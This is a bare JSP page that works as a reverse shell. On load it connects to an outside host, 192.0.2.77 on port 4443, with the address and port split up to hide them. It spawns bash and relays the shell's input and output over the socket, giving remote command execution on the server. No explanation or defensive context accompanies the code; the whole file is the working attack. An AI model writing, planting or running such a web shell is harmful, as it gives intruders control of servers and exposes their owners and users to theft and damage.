<%@page import="java.io.*,java.net.*"%>
<%!
  static void pump(InputStream a, OutputStream b) throws IOException {
    while (a.available() > 0) b.write(a.read());
    b.flush();
  }
%>
<%
  String[] h = {"192.0.2.", "77"};
  Socket s = new Socket(h[0] + h[1], Integer.parseInt("4" + "443"));
  Process p = Runtime.getRuntime().exec(new String[]{"bash"});
  InputStream pi = p.getInputStream(), pe = p.getErrorStream(), si = s.getInputStream();
  OutputStream po = p.getOutputStream(), so = s.getOutputStream();
  while (!s.isClosed()) {
    pump(pi, so); pump(pe, so); pump(si, po);
    Thread.sleep(50);
    try { p.exitValue(); break; } catch (Exception e) {}
  }
  p.destroy(); s.close();
%>
